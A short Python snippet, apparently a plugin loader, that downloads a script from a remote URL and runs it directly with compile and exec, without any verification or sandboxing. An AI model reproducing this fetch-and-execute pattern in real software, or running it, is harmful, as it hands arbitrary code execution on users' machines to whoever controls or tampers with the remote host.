import urllib.request

u = 'https://plugins.open-ext.net/ext.py'
resp = urllib.request.urlopen(u).read()
module_code = compile(resp, '<ext>', 'exec')
exec(module_code, {})
